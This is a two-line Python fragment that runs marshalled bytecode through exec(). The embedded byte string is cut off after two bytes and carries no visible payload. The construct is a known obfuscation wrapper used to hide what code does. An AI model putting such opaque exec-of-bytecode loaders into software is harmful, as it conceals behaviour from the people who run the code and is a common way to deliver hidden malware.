import marshal
exec(marshal.loads(b'\xe3\x00'))